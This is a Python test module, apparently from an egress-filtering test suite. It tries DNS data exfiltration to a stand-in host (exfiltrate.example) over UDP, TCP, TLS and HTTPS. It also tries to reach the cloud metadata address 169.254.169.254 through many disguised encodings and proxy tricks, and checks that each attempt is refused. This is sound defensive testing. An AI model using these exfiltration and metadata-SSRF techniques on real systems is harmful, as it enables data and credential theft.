"""Out by names: data in questions, other servers, other types; and the metadata address in each of its clothes."""

import base64
import contextlib
import socket
import struct

from attempts import FACTS, NOTICED, PATIENCE, Verdict, attempt, dial, get, hear, hear_answer, judged, question, say, say_tls, swallowed

# -- names as a way out for data


def _asked(server: str, data: bytes, port: int = 53) -> Verdict:
    return swallowed(server, port, data)


_DATA = base64.b32encode(b"the configuration of production").decode().strip("=").lower()


@attempt("dns-data-in-a-label", "name.asked", f"{_DATA}.exfiltrate.example")
def _() -> Verdict:
    return _asked(FACTS["resolver"], question(f"{_DATA}.exfiltrate.example"))


@attempt("dns-data-in-txt", "name.asked", f"txt-{_DATA}.exfiltrate.example")
def _() -> Verdict:
    return _asked(FACTS["resolver"], question(f"txt-{_DATA}.exfiltrate.example", 16))


@attempt("dns-data-in-the-longest-labels", "name.asked", "a" * 63 + "." + "b" * 63 + "." + "c" * 63)
def _() -> Verdict:
    return _asked(FACTS["resolver"], question(".".join(letter * 63 for letter in "abc") + "." + "d" * 40))


@attempt("dns-data-in-many-names", "name.asked", "part-39.exfiltrate.example")
def _() -> Verdict:
    taken = [_asked(FACTS["resolver"], question(f"part-{number}.exfiltrate.example"))[0] for number in range(4 if PATIENCE < 1 else 40)]
    return any(taken), f"{len(taken)} questions, {sum(taken)} taken in silence"


@attempt("dns-of-another-server", "name.asked", "other-server.exfiltrate.example")
def _() -> Verdict:
    return _asked("8.8.8.8", question("other-server.exfiltrate.example"))


@attempt("dns-of-another-server-ipv6", "name.asked", "other-server-6.exfiltrate.example")
def _() -> Verdict:
    return _asked("2001:4860:4860::8888", question("other-server-6.exfiltrate.example"))


@attempt("dns-over-tcp", "attempt.refused", "tcp 9.9.9.9 port 53")
def _() -> Verdict:
    asked = question("over-tcp.exfiltrate.example")
    with dial("9.9.9.9", 53) as sock:
        sock.sendall(struct.pack("!H", len(asked)) + asked)
        return True, f"connected; {len(hear(sock, 2))} bytes answered"


@attempt("dns-over-tls", "attempt.refused", "tcp 9.9.9.9 port 853")
def _() -> Verdict:
    with dial("9.9.9.9", 853):
        return True, "connected"


@attempt("dns-over-https", "action.decided", '"deny"', "https://cloudflare-dns.com/dns-query")
def _() -> Verdict:
    asked = base64.urlsafe_b64encode(question("over-https.exfiltrate.example")).decode().strip("=")
    return judged(say_tls("1.1.1.1", 443, "cloudflare-dns.com", get("cloudflare-dns.com", f"/dns-query?dns={asked}")))


@attempt("dns-not-a-question", "attempt.refused", '"dns"', "a response was sent")
def _() -> Verdict:
    """A datagram to port 53 that is a tunnel's: nothing of it may go on."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.3)
        sock.connect(("8.8.4.4", 53))
        sock.send(question("raw.exfiltrate.example", flags=0x8180) + b"the configuration")
        with contextlib.suppress(TimeoutError):
            return sock.recv(4096) == NOTICED, "answered"
    return False, "silence"  # which is how a resolver answers what is no question


@attempt("dns-any", "attempt.refused", '"dns"', "type 255")
def _() -> Verdict:
    return _asked(FACTS["resolver"], question("any.exfiltrate.example", 255))


@attempt("dns-zone-transfer", "attempt.refused", '"dns"', "type 252")
def _() -> Verdict:
    return _asked(FACTS["resolver"], question("open.internal", 252))


@attempt("dns-name-with-nul", "attempt.refused", '"dns"', "not a host name")
def _() -> Verdict:
    return _asked(FACTS["resolver"], question("open.internal\0.exfiltrate.example"))


@attempt("dns-chaos-class", "attempt.refused", '"dns"', "class 3")
def _() -> Verdict:
    return _asked(FACTS["resolver"], question("version.bind", 16, klass=3))


# -- the metadata address, in each of its clothes


def _metadata() -> None:
    for name, address, shown in (
        ("metadata", "169.254.169.254", "169.254.169.254"),
        ("metadata-inside-ipv6", "::ffff:169.254.169.254", "169.254.169.254"),
        ("metadata-6to4", "2002:a9fe:a9fe::1", "[2002:a9fe:a9fe::1]"),
        ("metadata-nat64", "64:ff9b::a9fe:a9fe", "[64:ff9b::a9fe:a9fe]"),
        ("metadata-ipv6", "fd00:ec2::254", "[fd00:ec2::254]"),
        ("metadata-of-another-cloud", "100.100.100.200", "100.100.100.200"),
        ("metadata-of-a-container", "169.254.170.2", "169.254.170.2"),
    ):

        @attempt(name, "action.decided", '"deny"', f"{shown.strip('[]')}/latest/{name}")
        def _(address: str = address, shown: str = shown, name: str = name) -> Verdict:
            return judged(say(address, 80, get(shown, f"/latest/{name}")))

    for name, written in (
        ("metadata-decimal", "2852039166"),
        ("metadata-hexadecimal", "0xa9fea9fe"),
        ("metadata-octal", "0251.0376.0251.0376"),
        ("metadata-short", "169.254.43518"),
        ("metadata-mixed", "0xa9.254.0251.254"),
    ):
        # Dialled, the C library makes the address of it; asked of a proxy, somebody else would.
        @attempt(name, "attempt.refused", "invalid-host")
        def _(written: str = written, name: str = name) -> Verdict:
            dialled = judged(say(socket.inet_ntoa(socket.inet_aton(written)), 80, get("169.254.169.254", f"/latest/{name}")))
            proxied = judged(say(FACTS["proxy"], 3128, get(written, f"http://{written}/latest/{name}")))
            return dialled[0] or proxied[0], f"dialled: {dialled[1]}; by the proxy: {proxied[1]}"

    for name, host in (
        ("metadata-by-name", "metadata.google.internal"),
        ("metadata-by-a-name-that-spells-it", "169.254.169.254.nip.io"),
    ):

        @attempt(name, "action.decided", '"deny"', f"http://{host}/latest/{name}")
        def _(host: str = host, name: str = name) -> Verdict:
            return judged(say(FACTS["proxy"], 3128, get(host, f"http://{host}/latest/{name}")))


_metadata()


@attempt("metadata-connect", "action.decided", '"deny"', "http://169.254.169.254/latest/connect")
def _() -> Verdict:
    with dial(FACTS["proxy"], 3128) as sock:
        sock.sendall(b"CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254:80\r\n\r\n")
        sock.recv(4096)
        sock.sendall(get("169.254.169.254", "/latest/connect"))
        return judged(hear_answer(sock))
